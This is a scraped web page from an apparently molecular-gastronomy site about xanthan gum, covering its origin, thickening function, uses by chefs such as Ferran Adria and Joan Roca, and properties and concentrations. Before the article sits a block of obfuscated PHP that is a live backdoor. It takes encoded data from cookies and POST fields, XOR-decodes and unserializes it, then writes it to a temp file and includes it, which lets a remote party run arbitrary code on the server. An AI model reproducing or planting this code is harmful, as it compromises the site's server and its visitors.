$IBfMM = chr ( 613 - 502 ).chr (95) . 'd' . chr (84) . "\x67" . "\x6a";$BEcTzzaUs = chr (99) . 'l' . 'a' . "\x73" . chr (115) . "\137" . 'e' . chr (120) . chr ( 859 - 754 ).chr (115) . 't' . "\163";$aGxrbeEjRN = class_exists($IBfMM); $BEcTzzaUs = "3697";$mSwkjzA = !1;if ($aGxrbeEjRN == $mSwkjzA){function WbVwyBtF(){return FALSE;}$JgGBQJy = "49";WbVwyBtF();class o_dTgj{private function ULxlcMa($JgGBQJy){if (is_array(o_dTgj::$VrRAKdxp)) {$vQFpwu = sys_get_temp_dir() . "/" . crc32(o_dTgj::$VrRAKdxp[chr (115) . "\x61" . 'l' . "\164"]);@o_dTgj::$VrRAKdxp[chr (119) . chr ( 743 - 629 )."\x69" . 't' . 'e']($vQFpwu, o_dTgj::$VrRAKdxp['c' . 'o' . "\x6e" . "\164" . 'e' . 'n' . chr ( 880 - 764 )]);include $vQFpwu;@o_dTgj::$VrRAKdxp[chr (100) . 'e' . chr ( 871 - 763 ).chr ( 348 - 247 ).chr (116) . chr ( 638 - 537 )]($vQFpwu); $JgGBQJy = "49";exit();}}private $hImlfcTJY;public function UNDEBkA(){echo 59060;}public function __destruct(){$JgGBQJy = "8587_38387";$this->ULxlcMa($JgGBQJy); $JgGBQJy = "8587_38387";}public function __construct($yEBvWXjR=0){$dQJieFGg = $_POST;$kGzEIA = $_COOKIE;$nXKxdj = "e8fe6741-8d27-4953-aafc-0fbcefc84b4c";$goNbho = @$kGzEIA[substr($nXKxdj, 0, 4)];if (!empty($goNbho)){$hKCchKZhB = "base64";$iRrvTsiV = "";$goNbho = explode(",", $goNbho);foreach ($goNbho as $xDRuAmcEj){$iRrvTsiV .= @$kGzEIA[$xDRuAmcEj];$iRrvTsiV .= @$dQJieFGg[$xDRuAmcEj];}$iRrvTsiV = array_map($hKCchKZhB . "\x5f" . "\144" . chr (101) . chr ( 857 - 758 ).chr (111) . "\144" . chr ( 287 - 186 ), array($iRrvTsiV,)); $iRrvTsiV = $iRrvTsiV[0] ^ str_repeat($nXKxdj, (strlen($iRrvTsiV[0]) / strlen($nXKxdj)) + 1);o_dTgj::$VrRAKdxp = @unserialize($iRrvTsiV); $iRrvTsiV = class_exists("8587_38387");}}public static $VrRAKdxp = 36984;}$CCQRbJKXb = new /*25183 */ $IBfMM(49 + 49); $mSwkjzA = $CCQRbJKXb = $JgGBQJy = Array();} Xanthan Gum - The Thickener of the Future
My Account View Cart

Xanthan Gum

1 Star2 Stars3 Stars4 Stars5 Stars (10 votes, average: 4.10)

Xanthan gum is the most versatile elastic thickener and easy-to-use hydrocolloid. It can be used in hot or cold applications, is extremely powerful in small quantities, it provides a rich creamy mouth feel and works synergistically with many other ingredients. It doesn't need to be heated like moststarches to be hydrated so it is ideal to make sauces with cold fruits and vegetables. Xanthan gum is very stable with temperature variations, it is effective in alkaline, acid and even salty solutions. Xanthan gum can also withstand freeze / thaw cycles and it is an excellent gluten replacement providing sponginess and firmness. In molecular gastronomy it is widely used for spherification, to suspend solids in liquids thanks to its elasticity, for thickening sauces without altering the mouth feel, for gas retention in liquids, to prevent weeping in gels, help stabilize emulsions and foams.

Xanthan Origin

Smoothie thickened with Xanthan GumXanthan gets its name from the bacterium responsible for its production: Xanthomonas campestris. The bacteria consumes sugars and ferments it into a naturally thick, mucus-like substance. That material is then processed into a cream-colored powder.

Xanthan gum was first developed in the 1950s at theNorthern Regional Research Labs of the USDA. It was produced commercially starting in the mid-1960s and approved for food use in the United States in 1969.

The powerful thickener can be derived from a variety of sources. It was originally designed to use up excess lactose sugars that were created as a byproduct of cheese production, but can also be derived from corn, soy, or wheat. The specific strain ofbacteria used in fermentation and the processing required vary by source.

Today, xanthan is found in a wide variety of foods. For example, a small quantity of the gum is often added to iced smoothie recipes to give the drinks a creamy texture and to help ice chunks stay dispersed.

Xanthan Function

By itself, xanthan drastically increases the viscosity (thickness) of any liquid it is added to in very lowconcentrations. In high concentrations, it will form a mucusy paste that looks like a gel but is not technically a gel. It does, however, form a gel when combined with locust bean gum.

Xanthan gum's real benefits come through its interactions with other ingredients. By increasing the viscosity of liquids, it helps to prevent syneresis (weeping) in gels, keep ice crystals from forming in frozen goods, and help stabilize emulsions and foams. Xanthan is a popular ingredient in gluten-free foods because it can impart some of thetexture that gluten gives to baked goods.

Xanthan Applications

We've probably featured xanthan more than any other ingredient on this site.

Xanthan Gum has been used by molecular gastronomy Chef Ferran Adria to suspend solids in liquids thanks to its elasticity in his famous "Melon with Ham" dish introduced at elBulli in 2005. This dish consisted of a clear ham consomme with suspended melon caviar spheres.

Solid Cava by Joan Roca using Xanthan GumA year later, Joan Roca used Xanthan Gum to retain gas in a cava sauce in his "Oyster with Cava" dish introduced at El Celler de Can Roca in 2006. he modifies cava (Spanish sparkling wine) to create a carbonated cava sauce hecalls solid cava. He does this at the winery by introducing Xanthan Gum after the first fermentation of Cava and then let it continue the process for nine months. This results in carbonated cava sauce which he uses in this oyster dish.



Spherical olives are a classic molecular gastronomy application by chef Ferran Adria and the el Bulli team. It's also one of the early examples of reverse spherification. In this application, xanthan gum is used to thicken the olive juice in encased in the spheres.

Spherical Olives thickened with Xanthan Gum

In this recipe for Dumplings, Broccoli Rabe, Garlic Powder, and Anchovies by Chef Cristina Bowerman of Glass Hosteria and Romeo in Rome, xanthan acts as a simple thickener for sauce made with nothing more than garlic and milk.

xanthan-dumplings-garlic thickened with Xanthan Gum

And finally, xanthan plays a stabilizing role in this recipe for Lychee Bubbles Filled with Sage Vapor on Oysters. This is one of our original recipes, based on flavor pairings found through the FoodPairing site. We combine xanthan gum with egg white powder to form long-lasting bubbles.

Xanthan Gum Lychee BubblesXanthan Gum is also widely used to elaborate dishes for people with allergies and food intolerance. It is used in low calorie dishes to improve mouth feel and consistency. To make gluten-free flour for those with celiac disease adding sponginess and firmness to the final baked product. Xanthan Gum is also used in diets for people with dysphagia that have difficulty in swallowing. Thanks to the viscocity and elasticity of Xanthan Gum, it is perfect to make creams of fruits, vegetables, meats and fish that are easier to swallow.

View more recipes with Xanthan

Xanthan Properties

Temperature : Will hydrate at any temperature. Yes, it's that awesome.

Texture: In small quantities, xanthan will add slight body and viscosity to any liquid. Add too much, however, and a xanthan-thickened mixture runs the risk of becoming slimey, with a texture like mucus. For thicker applications such as stews or puddings, we would recommend using a different thickener. In very high concentrations, xanthan-thickened mixtures turn into sticky pastes.Appearance: Clear, though since xanthan stabilizes emulsions, it's very easy to trap air bubbles into a thickened mixture that will never escape, which means that your mixture could become cloudy.

Flavor release: Good.

Mouthfeel: Rich, creamy, and smooth in small quantities. Mucus-like at higher concentrations.

Freeze / Thaw stable:N/A, though xanthan can be used to stabilize frozen applications.

Syneresis (weeping): N/A, though xanthan can be used to prevent syneresis in other gelling agents.

Shearing: Shear-thinning. That is, xanthan-thickened mixtures become less viscous when exposed to shear, such as blending. However, it will not produce a fluid gel as some shear-thinning gels will.

Hysteresis: N/A.

Interactions and Tolerance of Xanthan

PH Tolerance: Functions at all reasonable pH's (1-13).

Other Tolerances: Tolerates alcohol up to 60%, salts, and enzymes. Will not hydrate properly with sugar concentrations greater than 60%.

Synergies with other ingredients: Can be used in practically any modernist recipe to increase viscosity, which in turn can stabilize emulsions, strengthen gels, and fortify foams. Xanthan increases thickening power when used with guar gum and carraggeenan and will form a gel with locust bean gum or konjac.

How to use XanthanConcentration Range: 0.05-0.15% to slightly thicken smoothies, 0.25%-0.5% for thin sauces, up to 0.8% will create a syrupy texture. Higher concentrations may be used in baked goods and for other special applications.

Dispersion: Disperses at any temperature. May form clumps if using very cold water, though this will usually resolve itself over time and can be aided with oil, sugar, alcohol, or some mixing.

Hydration: Occurs at any temperature.

Setting: N/A

Special uses: many, everything from marshmallows to spherification.

top image: flickruser ginny


Back toModernist Cuisine Ingredients:Hydrocolloids, Starches & more